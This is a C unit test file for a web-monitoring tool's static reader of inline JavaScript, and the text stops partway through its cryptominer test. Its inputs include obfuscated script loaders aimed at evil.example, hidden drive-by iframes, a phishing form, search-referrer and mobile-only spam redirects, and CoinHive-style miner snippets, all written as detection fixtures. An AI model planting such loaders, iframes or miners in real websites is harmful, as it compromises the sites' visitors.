/*
** test_jsread.c — the static read of inline scripts (src/watch/jsread.c):
** what a script loads or where it sends the visitor, as an analyst would
** read it. The vendors' analytics snippets are verbatim in the shapes they
** publish (with fake ids) and must give their own host as a script; the
** obfuscated loaders are the shapes found in compromised sites (joined
** pieces, escapes, atob, fromCharCode, reversed strings, variables, eval);
** the redirects are the referrer- and mobile-conditional ones of SEO spam
** and traffic-selling kits. Hostile inputs must end, bounded, with the
** limit flags set.
*/
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "watch/watch.h"

/* ------------------------------------------------------------- helpers */

static struct watch_js_read R;

static const struct watch_js_read *rd(const char *js)
{
	watch_js_read(js, strlen(js), &R);
	return &R;
}

static void dump(const struct watch_js_read *r)
{
	fprintf(stderr, "flags %#x, %zu destinations\n", r->flags, r->ndest);
	for (size_t i = 0; i < r->ndest; i++)
		fprintf(stderr, "  kind %d flags %#x %s\n", r->dest[i].kind, r->dest[i].flags,
			r->dest[i].url);
}

/* The destination of that kind and URL, or fail. */
static const struct watch_js_dest *dest(const struct watch_js_read *r, int kind, const char *url)
{
	for (size_t i = 0; i < r->ndest; i++)
		if (r->dest[i].kind == kind && strcmp(r->dest[i].url, url) == 0)
			return &r->dest[i];
	dump(r);
	fail_msg("no destination kind %d %s", kind, url);
	return NULL;
}

/* Exactly one destination, that one. */
static const struct watch_js_dest *only(const struct watch_js_read *r, int kind, const char *url)
{
	if (r->ndest != 1) {
		dump(r);
		fail_msg("expected one destination, got %zu", r->ndest);
	}
	return dest(r, kind, url);
}

static void none(const struct watch_js_read *r)
{
	if (r->ndest != 0) {
		dump(r);
		fail_msg("expected no destination");
	}
}

#define OBF WATCH_RF_OBFUSCATED
#define COND WATCH_RF_CONDITIONAL

/* ---------------------------------------------------- analytics snippets */

/* Vendor snippets build their script URL from pieces; each must come out
** as a script from the vendor's host, not flagged as obfuscated. */
static void google_tag_manager(void **state)
{
	(void)state;
	const struct watch_js_read *r = rd(
		"(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':\n"
		"new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],\n"
		"j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src=\n"
		"'https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);\n"
		"})(window,document,'script','dataLayer','GTM-ABCD123');");
	const struct watch_js_dest *d =
		only(r, WATCH_REF_SCRIPT, "https://www.googletagmanager.com/gtm.js?id=GTM-ABCD123");
	assert_false(d->flags & OBF);
	assert_true(d->flags & WATCH_RF_FROM_JS);
	assert_false(r->flags & (WATCH_JSF_EVAL | WATCH_JSF_MINER | WATCH_JSF_REFERRER));
	/* a renamed data layer is carried into the URL */
	r = rd("(function(w,d,s,l,i){w[l]=w[l]||[];var f=d.getElementsByTagName(s)[0],"
	       "j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src="
	       "'https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);"
	       "})(window,document,'script','myLayer','GTM-ABCD123');");
	only(r, WATCH_REF_SCRIPT, "https://www.googletagmanager.com/gtm.js?id=GTM-ABCD123&l=myLayer");
}

static void google_tag(void **state)
{
	(void)state;
	/* the inline half of gtag.js loads nothing by itself */
	const struct watch_js_read *r =
		rd("  window.dataLayer = window.dataLayer || [];\n"
		   "  function gtag(){dataLayer.push(arguments);}\n"
		   "  gtag('js', new Date());\n\n  gtag('config', 'G-AB12CD34EF');\n");
	none(r);
	assert_int_equal(r->flags, 0);
	/* sites that load it from script (consent managers do) */
	r = rd("var id = 'G-AB12CD34EF';\n"
	       "var s = document.createElement('script'); s.async = true;\n"
	       "s.src = 'https://www.googletagmanager.com/gtag/js?id=' + id;\n"
	       "document.head.appendChild(s);");
	const struct watch_js_dest *d =
		only(r, WATCH_REF_SCRIPT, "https://www.googletagmanager.com/gtag/js?id=G-AB12CD34EF");
	assert_false(d->flags & OBF);
	/* Universal Analytics' analytics.js and the legacy ga.js */
	r = rd("(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){\n"
	       "(i[r].q=i[r].q||[]).push(arguments)},i[r].l=1*new Date();a=s.createElement(o),\n"
	       "m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)\n"
	       "})(window,document,'script','https://www.google-analytics.com/analytics.js','ga');\n"
	       "ga('create', 'UA-XXXXX-Y', 'auto');\nga('send', 'pageview');");
	d = only(r, WATCH_REF_SCRIPT, "https://www.google-analytics.com/analytics.js");
	assert_false(d->flags & OBF);
	r = rd("var _gaq = _gaq || [];\n_gaq.push(['_setAccount', 'UA-XXXXX-X']);\n"
	       "_gaq.push(['_trackPageview']);\n(function() {\n"
	       "var ga = document.createElement('script'); ga.type = 'text/javascript'; ga.async = true;\n"
	       "ga.src = ('https:' == document.location.protocol ? 'https://ssl' : 'http://www') + "
	       "'.google-analytics.com/ga.js';\n"
	       "var s = document.getElementsByTagName('script')[0]; s.parentNode.insertBefore(ga, s);\n"
	       "})();");
	d = only(r, WATCH_REF_SCRIPT, "https://ssl.google-analytics.com/ga.js");
	assert_false(d->flags & OBF);
	/* the scheme picked apart from the rest, and jQuery's local fallback */
	r = rd("document.write('<script src=\"' + (location.protocol == 'https:' ? 'https:' : "
	       "'http:') + '//cdn.example.net/x.js\"><\\/script>');"
	       "window.jQuery || document.write('<script src=\"/js/jquery.min.js\"><\\/script>')");
	assert_false(dest(r, WATCH_REF_SCRIPT, "https://cdn.example.net/x.js")->flags & OBF);
	dest(r, WATCH_REF_SCRIPT, "/js/jquery.min.js");
}

static void matomo(void **state)
{
	(void)state;
	const struct watch_js_read *r = rd(
		"  var _paq = window._paq = window._paq || [];\n"
		"  /* tracker methods like \"setCustomDimension\" should be called before "
		"\"trackPageView\" */\n"
		"  _paq.push(['trackPageView']);\n  _paq.push(['enableLinkTracking']);\n"
		"  (function() {\n    var u=\"//stats.example.org/\";\n"
		"    _paq.push(['setTrackerUrl', u+'matomo.php']);\n"
		"    _paq.push(['setSiteId', '1']);\n"
		"    var d=document, g=d.createElement('script'), s=d.getElementsByTagName('script')[0];\n"
		"    g.async=true; g.src=u+'matomo.js'; s.parentNode.insertBefore(g,s);\n  })();\n");
	const struct watch_js_dest *d = only(r, WATCH_REF_SCRIPT, "//stats.example.org/matomo.js");
	assert_false(d->flags & OBF);
	assert_true(d->flags & WATCH_RF_PROTO_REL);
	assert_true(r->flags & WATCH_JSF_DECODED); /* it was joined */
}

static void yandex_facebook_hotjar(void **state)
{
	(void)state;
	const struct watch_js_read *r = rd(
		"   (function(m,e,t,r,i,k,a){m[i]=m[i]||function(){(m[i].a=m[i].a||[]).push(arguments)};\n"
		"   m[i].l=1*new Date();\n"
		"   for (var j = 0; j < document.scripts.length; j++) {if (document.scripts[j].src === r) "
		"{ return; }}\n"
		"   k=e.createElement(t),a=e.getElementsByTagName(t)[0],k.async=1,k.src=r,"
		"a.parentNode.insertBefore(k,a)})\n"
		"   (window, document, \"script\", \"https://mc.yandex.ru/metrika/tag.js\", \"ym\");\n\n"
		"   ym(12345678, \"init\", {\n        clickmap:true,\n        trackLinks:true,\n"
		"        accurateTrackBounce:true\n   });\n");
	only(r, WATCH_REF_SCRIPT, "https://mc.yandex.ru/metrika/tag.js");
	r = rd("!function(f,b,e,v,n,t,s)\n{if(f.fbq)return;n=f.fbq=function(){n.callMethod?\n"
	       "n.callMethod.apply(n,arguments):n.queue.push(arguments)};\n"
	       "if(!f._fbq)f._fbq=n;n.push=n;n.loaded=!0;n.version='2.0';\n"
	       "n.queue=[];t=b.createElement(e);t.async=!0;\n"
	       "t.src=v;s=b.getElementsByTagName(e)[0];\n"
	       "s.parentNode.insertBefore(t,s)}(window, document,'script',\n"
	       "'https://connect.facebook.net/en_US/fbevents.js');\n"
	       "fbq('init', '123456789012345');\nfbq('track', 'PageView');");
	only(r, WATCH_REF_SCRIPT, "https://connect.facebook.net/en_US/fbevents.js");
	r = rd("    (function(h,o,t,j,a,r){\n"
	       "        h.hj=h.hj||function(){(h.hj.q=h.hj.q||[]).push(arguments)};\n"
	       "        h._hjSettings={hjid:1234567,hjsv:6};\n"
	       "        a=o.getElementsByTagName('head')[0];\n"
	       "        r=o.createElement('script');r.async=1;\n"
	       "        r.src=t+h._hjSettings.hjid+j+h._hjSettings.hjsv;\n"
	       "        a.appendChild(r);\n"
	       "    })(window,document,'https://static.hotjar.com/c/hotjar-','.js?sv=');");
	/* the id is a property the reader does not follow: dropped, host kept */
	only(r, WATCH_REF_SCRIPT, "https://static.hotjar.com/c/hotjar-.js?sv=");
}

static void cloudflare(void **state)
{
	(void)state;
	/* the beacon loaded from script */
	const struct watch_js_read *r =
		rd("var s=document.createElement('script');s.defer=true;"
		   "s.src='https://static.cloudflareinsights.com/beacon.min.js';"
		   "s.setAttribute('data-cf-beacon','{\"token\": \"0123456789abcdef\"}');"
		   "document.head.appendChild(s);");
	only(r, WATCH_REF_SCRIPT, "https://static.cloudflareinsights.com/beacon.min.js");
	/* the challenge platform's injected snippet: an invisible iframe with
	** no src, into which a script from the site itself is written */
	r = rd("(function(){function c(){var b=a.contentDocument||a.contentWindow.document;if(b){"
	       "var d=b.createElement('script');d.innerHTML=\"window.__CF$cv$params={r:'8b1a2c3d4e5f',"
	       "t:'MTcwMDAwMDAwMC4wMDAwMDA='};var a=document.createElement('script');a.nonce='';"
	       "a.src='/cdn-cgi/challenge-platform/scripts/jsd/main.js';"
	       "document.getElementsByTagName('head')[0].appendChild(a);\";"
	       "b.getElementsByTagName('head')[0].appendChild(d)}}if(document.body){"
	       "var a=document.createElement('iframe');a.height=1;a.width=1;"
	       "a.style.position='absolute';a.style.top=0;a.style.left=0;a.style.border='none';"
	       "a.style.visibility='hidden';document.body.appendChild(a);"
	       "if('loading'!==document.readyState)c();else if(window.addEventListener)"
	       "document.addEventListener('DOMContentLoaded',c);else{var e=document.onreadystatechange"
	       "||function(){};document.onreadystatechange=function(b){e(b);"
	       "'loading'!==document.readyState&&(document.onreadystatechange=e,c())}}}})();");
	const struct watch_js_dest *d =
		only(r, WATCH_REF_SCRIPT, "/cdn-cgi/challenge-platform/scripts/jsd/main.js");
	assert_false(d->flags & OBF);
	assert_false(r->flags & WATCH_JSF_EVAL);
}

static void counters(void **state)
{
	(void)state;
	/* LiveInternet: a document.write of a counter image that sends the
	** referrer along; reading the referrer as data is no condition */
	const struct watch_js_read *r = rd(
		"document.write(\"<a href='//www.liveinternet.ru/click' target=_blank><img "
		"src='//counter.yadro.ru/hit?t44.6;r\"+escape(document.referrer)+((typeof(screen)=="
		"\"undefined\")?\"\":\";s\"+screen.width+\"*\"+screen.height+\"*\"+(screen.colorDepth?"
		"screen.colorDepth:screen.pixelDepth))+\";u\"+escape(document.URL)+\";h\"+"
		"escape(document.title.substring(0,150))+\";\"+Math.random()+\"' alt='' "
		"title='LiveInternet' border='0' width='31' height='31'><\\/a>\")");
	const struct watch_js_dest *d = only(r, WATCH_REF_IMG, "//counter.yadro.ru/hit?t44.6;r;u;h;");
	assert_true(r->flags & WATCH_JSF_REFERRER);
	assert_false(d->flags & (COND | OBF | WATCH_RF_TINY));
	/* a tracking pixel */
	r = rd("(new Image()).src = 'https://pixel.example.net/p.gif?u=' + encodeURIComponent(location.href);");
	only(r, WATCH_REF_IMG, "https://pixel.example.net/p.gif?u=");
}

/* Chat widgets (Tawk.to, and Raychat and Goftino common on Iranian sites)
** load their script from their own host. */
static void chat_widgets(void **state)
{
	(void)state;
	const struct watch_js_read *r = rd("var Tawk_API=Tawk_API||{}, Tawk_LoadStart=new Date();\n(function(){\nvar s1="
					   "document.createElement(\"script\"),s0=document.getElementsByTagName(\"script"
					   "\")[0];\ns1.async=true;\ns1.src='https://embed.tawk.to/5f0000000000000000000"
					   "000/default';\ns1.charset='UTF-8';\ns1.setAttribute('crossorigin','*');\ns0."
					   "parentNode.insertBefore(s1,s0);\n})();");
	assert_false(only(r, WATCH_REF_SCRIPT, "https://embed.tawk.to/5f0000000000000000000000/default")
			     ->flags &
		     (OBF | COND));
	r = rd("!function(){function t(){var t=document.createElement(\"script\");t.type=\"t"
		"ext/javascript\",t.async=!0,localStorage.getItem(\"rayToken\")?t.src=\"https"
		"://app.raychat.io/scripts/js/\"+o+\"?rid=\"+localStorage.getItem(\"rayToken\""
		")+\"&href=\"+window.location.href:t.src=\"https://app.raychat.io/scripts/js/"
		"\"+o+\"?href=\"+window.location.href;var e=document.getElementsByTagName(\"s"
		"cript\")[0];e.parentNode.insertBefore(t,e)}var e=document,a=window,o=\"7c9d1"
		"234-0000-4000-8000-abcdefabcdef\";\"complete\"==e.readyState?t():a.attachEve"
		"nt?a.attachEvent(\"onload\",t):a.addEventListener(\"load\",t,!1)}();");
	for (size_t i = 0; i < r->ndest; i++) {
		assert_int_equal(r->dest[i].kind, WATCH_REF_SCRIPT);
		assert_memory_equal(r->dest[i].url, "https://app.raychat.io/scripts/js/", 34);
		assert_false(r->dest[i].flags & (OBF | COND));
	}
	/* its function is called once the id is known */
	dest(r, WATCH_REF_SCRIPT,
	     "https://app.raychat.io/scripts/js/7c9d1234-0000-4000-8000-abcdefabcdef?href=");
	r = rd("!function(){var i=\"AbCdEf\",a=window,d=document;function g(){var g=d.create"
		"Element(\"script\"),s=\"https://www.goftino.com/widget/\"+i,l=localStorage.g"
		"etItem(\"goftino_\"+i);g.async=!0,g.src=l?s+\"?o=\"+l:s;d.getElementsByTagNa"
		"me(\"head\")[0].appendChild(g);}\"complete\"===d.readyState?g():a.attachEven"
		"t?a.attachEvent(\"onload\",g):a.addEventListener(\"load\",g,!1);}();");
	assert_false(only(r, WATCH_REF_SCRIPT, "https://www.goftino.com/widget/AbCdEf?o=")->flags &
		     (OBF | COND));
}

/* ------------------------------------------------------ obfuscated loaders */

static void obfuscated_loaders(void **state)
{
	(void)state;
	const struct watch_js_dest *d;
	/* concatenation, the tag name split too */
	d = only(rd("var s=document.createElement('scr'+'ipt');s.src='ht'+'tps://cdn-js'+"
		    "'delivr.net.x.top/j.js';document.body.appendChild(s);"),
		 WATCH_REF_SCRIPT, "https://cdn-jsdelivr.net.x.top/j.js");
	assert_true(d->flags & OBF);
	assert_true(R.flags & WATCH_JSF_DECODED);
	/* \x escapes */
	d = only(rd("document.write(\"\\x3c\\x73\\x63\\x72\\x69\\x70\\x74 src=\\x27\\x68\\x74\\x74"
		    "\\x70://evil.example/a.js\\x27>\\x3c/script>\");"),
		 WATCH_REF_SCRIPT, "http://evil.example/a.js");
	assert_true(d->flags & OBF);
	/* \u, \u{}, octal */
	d = only(rd("location.replace('\\u0068\\u{74}tp\\163://evil.example/');"), WATCH_REF_REDIRECT,
		 "https://evil.example/");
	assert_true(d->flags & OBF);
	/* atob */
	d = only(rd("var u=atob(\"aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbS5qcw==\"); var e=document."
		    "createElement(\"script\"); e.src=u; document.head.appendChild(e);"),
		 WATCH_REF_SCRIPT, "https://evil.example/m.js");
	assert_true(d->flags & OBF);
	/* String.fromCharCode, with more arguments than a call usually has */
	d = only(rd("window.location.href = String.fromCharCode(104,116,116,112,115,58,47,47,101,118,"
		    "105,108,46,101,120,97,109,112,108,101,47,0x67,0x6f);"),
		 WATCH_REF_REDIRECT, "https://evil.example/go");
	assert_true(d->flags & OBF);
	d = only(rd("var c=[104,116,116,112,58,47,47,101,46,101,120,97,109,112,108,101,47];"
		    "top.location=String.fromCharCode.apply(null,c);"),
		 WATCH_REF_REDIRECT, "http://e.example/");
	/* a reversed string */
	d = only(rd("var x='sj.m/elpmaxe.live//:sptth'.split('').reverse().join(''); var s=document."
		    "createElement('script'); s.src=x; document.getElementsByTagName('head')[0]."
		    "appendChild(s);"),
		 WATCH_REF_SCRIPT, "https://evil.example/m.js");
	assert_true(d->flags & OBF);
	/* variable indirection, an array joined, replace() */
	d = only(rd("var p1='https://cdn.', p2='ev', p3='il.example/x.js'; var el=document."
		    "createElement('script'); el.src=p1+p2+p3; document.body.appendChild(el);"),
		 WATCH_REF_SCRIPT, "https://cdn.evil.example/x.js");
	assert_true(d->flags & OBF);
	d = only(rd("var a=['ht','tps:','//ev','il.example','/j.js'];var s=document.createElement"
		    "('script');s.src=a.join('');document.head.appendChild(s);"),
		 WATCH_REF_SCRIPT, "https://evil.example/j.js");
	assert_true(d->flags & OBF);
	d = only(rd("var u='h!t!t!p!s!:!/!/!e!v!i!l!.!e!x!a!m!p!l!e!/!r'.replace(/!/g,'');"
		    "window.location=u;"),
		 WATCH_REF_REDIRECT, "https://evil.example/r");
	assert_true(d->flags & OBF);
	/* an obfuscator's string table, read by index */
	d = only(rd("var _0x3f2a=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f','evil.example','/o.js',"
		    "'script'];var _0x1b=document['createElement'](_0x3f2a[3]);_0x1b['src']=_0x3f2a[0]+"
		    "_0x3f2a[1]+_0x3f2a[2];document['head']['appendChild'](_0x1b);"),
		 WATCH_REF_SCRIPT, "https://evil.example/o.js");
	assert_true(d->flags & OBF);
	/* a string built with += */
	d = only(rd("var u='ht'; u+='tp://'; u+='evil.example/p'; document.location.href=u;"),
		 WATCH_REF_REDIRECT, "http://evil.example/p");
	assert_true(d->flags & OBF);
	/* computed property names */
	d = only(rd("window['loc'+'ation']['hr'+'ef']='https://evil.example/w';"), WATCH_REF_REDIRECT,
		 "https://evil.example/w");
	/* a template literal */
	only(rd("var h=`evil.example`; location.assign(`https://${h}/t?x=${1+2}`);"),
	     WATCH_REF_REDIRECT, "https://evil.example/t?x=3");
	/* unescape of a whole tag */
	d = only(rd("document.write(unescape('%3Cscript%20src%3D%22https%3A//evil.example/u.js%22%3E"
		    "%3C/script%3E'));"),
		 WATCH_REF_SCRIPT, "https://evil.example/u.js");
	assert_true(d->flags & OBF);
	d = only(rd("location=decodeURIComponent('https%3A%2F%2Fevil.example%2Fd');"),
		 WATCH_REF_REDIRECT, "https://evil.example/d");
	assert_true(d->flags & OBF);
}

/* A loader that takes its URL as an argument: the declared function is
** read again at each call with its parameters bound. */
static void declared_functions(void **state)
{
	(void)state;
	const struct watch_js_read *r =
		rd("function loadScript(url, cb){ var s=document.createElement('script'); s.src=url; "
		   "s.onload=cb; document.head.appendChild(s); }\n"
		   "loadScript('https://cdn.example.net/a.js');\n"
		   "loadScript('ht'+'tps://ev'+'il.example/b.js', function(){ init(); });");
	assert_int_equal(r->ndest, 2);
	assert_false(dest(r, WATCH_REF_SCRIPT, "https://cdn.example.net/a.js")->flags & OBF);
	assert_true(dest(r, WATCH_REF_SCRIPT, "https://evil.example/b.js")->flags & OBF);
	/* recursion ends */
	r = rd("function f(u){ f(u); location=u; } f('/x'); f('/y');");
	assert_int_equal(r->ndest, 2);
	/* a callback's body is still read */
	only(rd("document.addEventListener('DOMContentLoaded', function(){ "
		"window.location.replace('https://evil.example/cb'); });"),
	     WATCH_REF_REDIRECT, "https://evil.example/cb");
	only(rd("window.addEventListener('load', () => { location.href = 'https://evil.example/ar'; });"),
	     WATCH_REF_REDIRECT, "https://evil.example/ar");
}

static void eval_and_timers(void **state)
{
	(void)state;
	/* eval(atob(loader)): the loader is read, its script obfuscated */
	const struct watch_js_read *r =
		rd("eval(atob(\"dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9J2h0dHBz"
		   "Oi8vZXZpbC5leGFtcGxlL2wuanMnO2RvY3VtZW50LmhlYWQuYXBwZW5kQ2hpbGQocyk7\"));");
	const struct watch_js_dest *d = only(r, WATCH_REF_SCRIPT, "https://evil.example/l.js");
	assert_true(d->flags & OBF);
	assert_true(r->flags & WATCH_JSF_EVAL);
	/* Dean Edwards' packer, the usual wrapper of injected code */
	r = rd("eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c"
		   "%a)>35?String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){"
		   "while(c--){d[e(c)]=k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return"
		   "'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b'"
		   ",'g'),k[c])}}return p}('0 1=2.3(\\'4\\');1.5=\\'6://7.8/9.a\\';2.b.c(1);',62,1"
		   "3,'var|s|document|createElement|script|src|https|evil|example|x|js|body|append"
		   "Child'.split('|'),0,{}))");
	d = only(r, WATCH_REF_SCRIPT, "https://evil.example/x.js");
	assert_true(d->flags & OBF);
	assert_true(r->flags & WATCH_JSF_EVAL);
	r = rd("setTimeout(\"location.href='http://evil.example/'\", 3000);");
	d = only(r, WATCH_REF_REDIRECT, "http://evil.example/");
	assert_true(r->flags & WATCH_JSF_EVAL);
	r = rd("new Function('a', \"window.open('https://pop.example/'+a)\")('x');");
	assert_true(r->flags & WATCH_JSF_EVAL);
	only(r, WATCH_REF_POPUP, "https://pop.example/");
	/* a timer with a function is not eval */
	r = rd("setTimeout(function(){ location.href = '/next'; }, 5000);");
	assert_false(r->flags & WATCH_JSF_EVAL);
	only(r, WATCH_REF_REDIRECT, "/next");
}

/* ----------------------------------------------------------- written HTML */

static void written_markup(void **state)
{
	(void)state;
	const struct watch_js_dest *d;
	d = only(rd("document.write('<script src=\"https://cdn.example.net/lib.js\"><\\/script>');"),
		 WATCH_REF_SCRIPT, "https://cdn.example.net/lib.js");
	assert_false(d->flags & (OBF | WATCH_RF_HIDDEN));
	/* the classic hidden iframe of drive-by kits */
	d = only(rd("document.write('<iframe src=\"http://evil.example/tds\" width=\"1\" height=\"1\" "
		    "style=\"visibility:hidden;position:absolute\"></iframe>');"),
		 WATCH_REF_IFRAME, "http://evil.example/tds");
	assert_true(d->flags & WATCH_RF_HIDDEN);
	assert_true(d->flags & WATCH_RF_TINY);
	/* hidden by its container; a visible embed beside it is not */
	const struct watch_js_read *r =
		rd("document.writeln('<div style=\"display: none\"><p>x</p><iframe src=\"http://evil."
		   "example/in\"></iframe></div><iframe src=\"https://www.youtube.com/embed/x\" "
		   "width=\"560\" height=\"315\"></iframe>');");
	assert_int_equal(r->ndest, 2);
	assert_true(dest(r, WATCH_REF_IFRAME, "http://evil.example/in")->flags & WATCH_RF_HIDDEN);
	assert_false(dest(r, WATCH_REF_IFRAME, "https://www.youtube.com/embed/x")->flags &
		     (WATCH_RF_HIDDEN | WATCH_RF_TINY));
	/* innerHTML, insertAdjacentHTML, jQuery */
	r = rd("document.getElementById('ad').innerHTML = '<iframe src=\"https://ads.example/x\" "
	       "style=\"opacity:0\"></iframe>';"
	       "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://phish.example/"
	       "p\" method=post><input name=pw></form>');"
	       "$('body').append('<link rel=\"stylesheet\" href=\"https://css.example/s.css\">');"
	       "jQuery('<img src=\"https://px.example/1.gif\" width=0>').appendTo('body');");
	assert_int_equal(r->ndest, 4);
	assert_true(dest(r, WATCH_REF_IFRAME, "https://ads.example/x")->flags & WATCH_RF_HIDDEN);
	dest(r, WATCH_REF_FORM, "https://phish.example/p");
	dest(r, WATCH_REF_STYLE, "https://css.example/s.css");
	assert_true(dest(r, WATCH_REF_IMG, "https://px.example/1.gif")->flags & WATCH_RF_TINY);
	/* a meta refresh written by script */
	d = only(rd("document.write('<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example"
		    "/r\">');"),
		 WATCH_REF_REDIRECT, "https://evil.example/r");
	assert_true(d->flags & WATCH_RF_META);
	/* an inline script inside the written markup is read as code */
	only(rd("document.write('<script>location.replace(\"https://evil.example/i\")<\\/script>');"),
	     WATCH_REF_REDIRECT, "https://evil.example/i");
}

static void created_elements(void **state)
{
	(void)state;
	/* an iframe hidden before or after its src is set */
	const struct watch_js_read *r = rd(
		"var i=document.createElement('iframe'); i.src='http://evil.example/f'; i.width=0;"
		" i.style.display='none'; document.body.appendChild(i);"
		"var k=document.createElement('iframe'); k.setAttribute('style','position:absolute;"
		"left:-9999px'); k.setAttribute('src','http://evil.example/g');"
		"var v=document.createElement('iframe'); v.src='https://www.youtube.com/embed/abc';"
		" v.width=560; v.height=315;");
	assert_int_equal(r->ndest, 3);
	unsigned f = dest(r, WATCH_REF_IFRAME, "http://evil.example/f")->flags;
	assert_true((f & WATCH_RF_HIDDEN) && (f & WATCH_RF_TINY));
	assert_true(dest(r, WATCH_REF_IFRAME, "http://evil.example/g")->flags & WATCH_RF_HIDDEN);
	assert_false(dest(r, WATCH_REF_IFRAME, "https://www.youtube.com/embed/abc")->flags &
		     (WATCH_RF_HIDDEN | WATCH_RF_TINY));
	/* appendChild returns its argument */
	only(rd("document.head.appendChild(document.createElement('script')).src='https://x.example/a.js';"),
	     WATCH_REF_SCRIPT, "https://x.example/a.js");
	/* a script whose tag the reader cannot know is taken for a script */
	only(rd("var t=getTag(); var s=document.createElement(t); s.src='https://x.example/b.js';"),
	     WATCH_REF_SCRIPT, "https://x.example/b.js");
	/* a module imported by script */
	only(rd("import('https://x.example/m.mjs').then(function(m){ m.run(); });"), WATCH_REF_SCRIPT,
	     "https://x.example/m.mjs");
	/* an <a> element's href loads nothing */
	none(rd("var a=document.createElement('a'); a.href='https://x.example/'; a.textContent='x';"));
}

/* ---------------------------------------------------- redirects and pops */

static void conditional_redirects(void **state)
{
	(void)state;
	/* SEO spam: visitors from search engines are sent away */
	const struct watch_js_read *r =
		rd("if (document.referrer.indexOf('google')>-1) location='http://spam.example/';");
	const struct watch_js_dest *d = only(r, WATCH_REF_REDIRECT, "http://spam.example/");
	assert_true(d->flags & COND);
	assert_true(r->flags & WATCH_JSF_REFERRER);
	r = rd("var ref = document.referrer; var se = ['google','bing','yandex'];\n"
	       "for (var i = 0; i < se.length; i++) { if (ref.indexOf(se[i]) != -1) {\n"
	       "  window.location.href = 'https://casino.example/?src=' + se[i]; break; } }");
	/* the loop is not run: the index's first value is taken */
	d = only(r, WATCH_REF_REDIRECT, "https://casino.example/?src=google");
	assert_true(d->flags & COND);
	/* mobile visitors only */
	r = rd("if (/Android|iPhone|iPad|iPod|Opera Mini|IEMobile/i.test(navigator.userAgent)) {\n"
	       "  window.location.replace(\"https://m-casino.example/\");\n}");
	d = only(r, WATCH_REF_REDIRECT, "https://m-casino.example/");
	assert_true(d->flags & COND);
	assert_true(r->flags & WATCH_JSF_UA);
	r = rd("var ua = navigator.userAgent.toLowerCase();\n"
	       "if (ua.indexOf('mobile') != -1) { top.location.href = 'http://m.evil.example/'; }");
	d = only(r, WATCH_REF_REDIRECT, "http://m.evil.example/");
	assert_true(d->flags & COND);
	/* unconditional */
	r = rd("window.location = \"https://www.new-site.example/\";");
	d = only(r, WATCH_REF_REDIRECT, "https://www.new-site.example/");
	assert_false(d->flags & (COND | OBF));
	assert_int_equal(r->flags, 0);
	r = rd("self.location.assign('https://a.example/'); document.location = 'https://b.example/';");
	dest(r, WATCH_REF_REDIRECT, "https://a.example/");
	dest(r, WATCH_REF_REDIRECT, "https://b.example/");
	/* not redirects: a hash, javascript:, reload */
	none(rd("location.hash = '#top'; location.href = '#main'; location.reload(); "
		"location.href = 'javascript:void(0)';"));
}

static void popups(void **state)
{
	(void)state;
	const struct watch_js_dest *d =
		only(rd("document.onclick = function(){ window.open('https://ads.example/pop?id=1', "
			"'_blank'); };"),
		     WATCH_REF_POPUP, "https://ads.example/pop?id=1");
	assert_false(d->flags & COND);
}

static void own_page_parts(void **state)
{
	(void)state;
	/* the page's own host written as location.host: a relative URL */
	const struct watch_js_read *r =
		rd("var s=document.createElement('script'); s.src='https://' + location.host + "
		   "'/js/app.js'; document.head.appendChild(s);"
		   "var t=document.createElement('script'); t.src=location.protocol + '//' + "
		   "window.location.hostname + '/js/b.js';"
		   "var o=document.createElement('script'); o.src=location.origin + '/js/c.js';");
	assert_int_equal(r->ndest, 3);
	dest(r, WATCH_REF_SCRIPT, "/js/app.js");
	dest(r, WATCH_REF_SCRIPT, "/js/b.js");
	dest(r, WATCH_REF_SCRIPT, "/js/c.js");
	/* a host the reader cannot know gives nothing */
	none(rd("var u=document.createElement('script'); u.src='https://' + cfg.host + '/x.js';"
		"var v=document.createElement('img'); v.src='https://cdn.'+location.hostname+'/p.gif';"
		"location.href = getTarget();"));
	/* an unknown first path segment never makes a host of the second */
	only(rd("window.location.href = '/' + lang + '/index.html';"), WATCH_REF_REDIRECT,
	     "/index.html");
	only(rd("location.href = location.origin + '/' + lang + '/news';"), WATCH_REF_REDIRECT,
	     "/news");
	/* a constant host with an unknown path keeps the host */
	only(rd("var s=document.createElement('script'); s.src='https://cdn.example.net/' + ver + "
		"'/x.js';"),
	     WATCH_REF_SCRIPT, "https://cdn.example.net//x.js");
}

static void miners(void **state)
{
	(void)state;
	/* cryptojacking: CoinHive, CryptoLoot, deepMiner, CoinIMP */
	const char *const yes[] = {
		"var miner = new CoinHive.Anonymous('SITE_KEY', {throttle: 0.3}); miner.start();",
		"var s=document.createElement('script');s.src='https://crypto-loot.com/lib/miner.min.js';"
		"document.head.appendChild(s);",
		"var miner = new deepMiner.Anonymous('ws://example.net:8000', 'USER'); miner.start();",
		"var _client = new Client.Anonymous('KEY', {throttle: 0, c: 'w'}); _client.start(); "
		"/* www.coinimp.com */",
		"document.write(atob('PHNjcmlwdCBzcmM9Imh0dHBzOi8vY29pbmhpdmUuY29tL2xpYi9jb2luaGl2ZS5taW4uanMiPjwvc2NyaXB0Pg=='));",
	};
	for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++)
		if (!(rd(yes[i])->flags & WATCH_JSF_MINER))
